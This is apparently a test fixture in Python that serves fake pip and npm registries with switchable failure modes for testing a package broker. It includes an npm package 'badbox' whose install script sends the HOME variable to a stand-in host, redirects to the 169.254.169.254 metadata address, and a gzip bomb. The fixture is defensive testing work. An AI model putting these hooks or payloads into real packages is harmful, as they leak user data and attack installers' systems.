"""Package registries of the small world: a simple index with a host for its files, and a registry of npm.

They are small and real: pip, npm and Deno install from them. What goes wrong with registries can be switched on by
whoever runs the broker, by plain HTTP on another port, and what they were asked can be seen there.
"""

import asyncio
import base64
import gzip
import hashlib
import io
import json
import ssl
import tarfile
import zipfile
from collections.abc import Callable
from contextlib import suppress
from functools import cached_property
from urllib.parse import parse_qs, unquote

from tests import application

PORT, CONTROL_PORT = 8450, 8451
SECRET = "Bearer of-the-host"
"""What the private index wants to be shown."""
BACKEND = """
import os, subprocess, sys, sysconfig, zipfile

def build_wheel(directory, config_settings=None, metadata_directory=None):
    library = "coldnative" + sysconfig.get_config_var("EXT_SUFFIX")
    include = "-I" + sysconfig.get_path("include")
    subprocess.run(["cc", "-shared", "-fPIC", include, "-o", library, "coldnative.c"], check=True)
    name = "coldnative-2.0-py3-none-any.whl"
    info = "coldnative-2.0.dist-info/"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.write(library)
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: coldnative\\nVersion: 2.0\\n")
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return name
"""
C_CODE = """
#include <Python.h>
static PyObject *answer(PyObject *self, PyObject *args) { return PyLong_FromLong(42); }
static PyMethodDef methods[] = {{"answer", answer, METH_NOARGS, ""}, {0}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "coldnative", "", -1, methods};
PyMODINIT_FUNC PyInit_coldnative(void) { return PyModule_Create(&module); }
"""


def wheel(name: str, version: str, code: str, *, requires: str = "") -> tuple[str, bytes, bytes]:
    """Name, bytes and metadata."""
    info = f"{name}-{version}.dist-info/"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += f"Requires-Dist: {requires}\n" if requires else ""
    told = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for path, text in ((f"{name}.py", code), (info + "METADATA", metadata), (info + "WHEEL", told)):
            archive.writestr(zipfile.ZipInfo(path), text)
        archive.writestr(zipfile.ZipInfo(info + "RECORD"), "")
    return f"{name}-{version}-py3-none-any.whl", target.getvalue(), metadata.encode()


def archive(folder: str, files: dict[str, str]) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as made:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{folder}/{path}")
            entry.size, entry.mode = len(text.encode()), 0o644
            made.addfile(entry, io.BytesIO(text.encode()))
    return target.getvalue()


def sdist() -> bytes:
    settings = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    settings += '[project]\nname = "coldnative"\nversion = "2.0"\n'
    told = "Metadata-Version: 2.1\nName: coldnative\nVersion: 2.0\n"
    files = {"PKG-INFO": told, "pyproject.toml": settings, "backend.py": BACKEND, "coldnative.c": C_CODE}
    return archive("coldnative-2.0", files)


class PackageSite:
    """What all of its connections share."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.mode = "well"
        self.python: dict[str, dict[str, tuple[bytes, bytes | None]]] = {}
        """By project and file: bytes, and metadata if it is offered by itself."""
        base = wheel("coldbase", "1.0", "value = 'base'\n")
        demo = wheel("colddemo", "1.0", "import coldbase\nvalue = coldbase.value + ' and demo'\n", requires="coldbase")
        large = wheel("coldlarge", "1.0", "#" + "x" * (3 << 20))
        private = wheel("coldprivate", "1.0", "value = 'private'\n")
        for project, (name, data, metadata) in zip(
            ("coldbase", "colddemo", "coldlarge", "coldprivate"), (base, demo, large, private), strict=True
        ):
            self.python[project] = {name: (data, metadata if project == "colddemo" else None)}
        self.python["coldnative"] = {"coldnative-2.0.tar.gz": (sdist(), None)}
        script = "require('fs').writeFileSync('POSTINSTALL.txt', 'ran')"
        self.npm: dict[str, tuple[dict[str, object], bytes]] = {}
        self._add_npm({"name": "rightbox", "version": "2.1.0", "main": "index.js"}, "module.exports = 'right'\n")
        self._add_npm(
            {
                "name": "leftbox",
                "version": "1.0.0",
                "main": "index.js",
                "dependencies": {"rightbox": "^2.0.0"},
                "scripts": {"install": f'node -e "{script}"'},
            },
            "module.exports = 'left of ' + require('rightbox')\n",
        )
        knock = "require('https').get('https://other.example.com/' + process.env.HOME).on('error', () => 0)"
        self._add_npm(
            {"name": "badbox", "version": "1.0.0", "main": "index.js", "scripts": {"install": f'node -e "{knock}"'}}, ""
        )
        self._add_npm({"name": "@cold/inner", "version": "0.1.0", "main": "index.js"}, "module.exports = 'inner'\n")

    def _add_npm(self, manifest: dict[str, object], code: str) -> None:
        data = archive("package", {"package.json": json.dumps(manifest), "index.js": code})
        self.npm[str(manifest["name"])] = (manifest, data)

    async def listen(self, secured: Callable[[], ssl.SSLContext]) -> None:
        await asyncio.start_server(self._serve, None, PORT, ssl=secured())
        await asyncio.start_server(self._control, None, CONTROL_PORT)

    _places = {
        "redirect": "/moved{path}",
        "loop": "{path}",
        "inward": f"https://inner.example.com:{PORT}{{path}}",
        "plain": f"http://api.example.com:{CONTROL_PORT}{{path}}",
        "address": "https://169.254.169.254{path}",
    }
    """Where it redirects to."""

    # -- what the broker sees ------------------------------------------------------------------

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                first, *lines = head.strip().split("\r\n")
                headers = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines)}
                self.seen.append((first, headers))
                if self.mode == "down":
                    writer.transport.abort()
                    return
                if self.mode == "silent":
                    await reader.read()
                    return
                await self._answer(unquote(first.split(" ")[1]), headers, writer)
        writer.close()

    async def _answer(self, path: str, headers: dict[str, str], writer: asyncio.StreamWriter) -> None:
        status, kind, body = self._find(path, headers)
        etag = f'"{hashlib.sha256(body).hexdigest()[:20]}"'
        if status == 200 and headers.get("if-none-match") == etag:
            status, body = 304, b""
        if self.mode == "odd-tag":
            etag = '"é"\r\nLast-Modified: gestern früh'
        told = f"HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nETag: {etag}\r\n"
        place = self._places.get(self.mode)
        if place is not None and (path.startswith("/files/") or self.mode != "redirect"):
            told = f"HTTP/1.1 302 Found\r\nLocation: {place.format(path=path)}\r\n"
            body = b""
        if self.mode == "bomb":
            told += "Content-Encoding: gzip\r\n"
            body = gzip.compress(bytes(70 << 20))
        writer.write(f"{told}Content-Length: {len(body)}\r\n\r\n".encode())
        is_file = path.startswith(("/files/", "/npm/")) and kind == "application/octet-stream"
        if self.mode == "half" and is_file:
            writer.write(body[: len(body) // 2])
            await writer.drain()
            writer.transport.abort()
            return
        step = 1024 if self.mode == "slow" and is_file else len(body) or 1
        for start in range(0, len(body), step):
            writer.write(body[start : start + step])
            await writer.drain()
            if self.mode == "slow" and is_file:
                await asyncio.sleep(0.05)

    def _find(self, path: str, headers: dict[str, str]) -> tuple[int, str, bytes]:
        path = path.removeprefix("/moved")
        parts = [part for part in path.split("/") if part]
        match parts:
            case ["private", "simple", *_] if headers.get("authorization") != SECRET:
                return 401, "text/plain", b"who are you?"
            case ["private", "simple", project] | ["simple", project] if project in self.python:
                return self._listing(project, headers)
            case ["files", project, name] if name in self.python.get(project, {}):
                return 200, "application/octet-stream", self._bytes(self.python[project][name][0])
            case ["files", project, name] if name.removesuffix(".metadata") in self.python.get(project, {}):
                metadata = self.python[project][name.removesuffix(".metadata")][1]
                return (404, "text/plain", b"") if metadata is None else (200, "application/octet-stream", metadata)
            case ["npm", "-", "files", file]:
                for manifest, data in self.npm.values():
                    if file == _npm_file(manifest):
                        return 200, "application/octet-stream", self._bytes(data)
            case ["git", *name]:
                body = self._repository.get("/".join(name).partition("?")[0])
                return (404, "text/plain", b"") if body is None else (200, "application/octet-stream", body)
            case ["npm", *name] if "/".join(name) in self.npm:
                return 200, "application/json", self._packument("/".join(name))
        return 404, "text/plain", b"no such thing"

    def _bytes(self, data: bytes) -> bytes:
        return data[:-1] + bytes([data[-1] ^ 1]) if self.mode in ("changed", "swapped") else data

    def _listing(self, project: str, headers: dict[str, str]) -> tuple[int, str, bytes]:
        files = []
        anchors = []
        for name, (data, metadata) in self.python[project].items():
            url = f"https://other.example.com:{PORT}/files/{project}/{name}"
            digest = hashlib.sha256(self._bytes(data)).hexdigest()
            hashes = {"sha256": digest}
            if self.mode in ("stronger", "swapped"):
                hashes = {"sha512": hashlib.sha512(self._bytes(data)).hexdigest()}
            entry: dict[str, object] = {"filename": name, "url": url, "hashes": hashes, "size": len(data)}
            if metadata is not None:
                entry["core-metadata"] = {"sha256": hashlib.sha256(metadata).hexdigest()}
            files.append(entry)
            fragment = "" if self.mode == "undigested" else f"#sha256={digest}"
            anchors.append(f'<a href="{url}{fragment}" data-requires-python="&gt;=3.7">{name}</a>')
        if self.mode in ("html", "undigested"):
            return 200, "text/html", f"<html><body>{''.join(anchors)}</body></html>".encode()
        body = {"meta": {"api-version": "1.1"}, "name": project, "files": files, "versions": ["1.0"]}
        return 200, "application/vnd.pypi.simple.v1+json", json.dumps(body).encode()

    def _packument(self, name: str) -> bytes:
        manifest, data = self.npm[name]
        data = self._bytes(data)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        url = f"https://api.example.com:{PORT}/npm/-/files/{_npm_file(manifest)}"
        dist = {"tarball": url, "integrity": integrity, "shasum": hashlib.sha1(data, usedforsecurity=False).hexdigest()}
        version = str(manifest["version"])
        one = {**manifest, "dist": dist}
        if "scripts" in manifest:
            one["hasInstallScript"] = True
        return json.dumps({"name": name, "dist-tags": {"latest": version}, "versions": {version: one}}).encode()

    @cached_property
    def _repository(self) -> dict[str, bytes]:
        """Of `tests/application.py`, with a lock of what this registry has."""
        lock: dict[str, object] = {"": {"name": "totals", "version": "1.0.0", "dependencies": {"leftbox": "1.0.0"}}}
        for name in ("leftbox", "rightbox"):
            ((version, one),) = json.loads(self._packument(name))["versions"].items()
            kept = {key: one[key] for key in ("dependencies", "hasInstallScript") if key in one}
            url = f"https://api.example.com:{PORT}/npm/{name}/-/{name}-{version}.tgz"  # as boxes are told
            place = {"resolved": url, "integrity": one["dist"]["integrity"]}
            lock[f"node_modules/{name}"] = {"version": version, **place, **kept}
        told = {"name": "totals", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": lock}
        return application.repository(json.dumps(told, indent=2) + "\n")

    # -- what the test wants -------------------------------------------------------------------

    async def _control(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        asked = parse_qs(head.split(" ")[1].partition("?")[2])
        if "mode" in asked:
            self.mode = asked["mode"][0]
        body = json.dumps(self.seen).encode()
        if "forget" in asked:
            self.seen.clear()
        writer.write(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
        await writer.drain()
        writer.close()


def _npm_file(manifest: dict[str, object]) -> str:
    return f"{str(manifest['name']).rpartition('/')[2]}-{manifest['version']}.tgz"
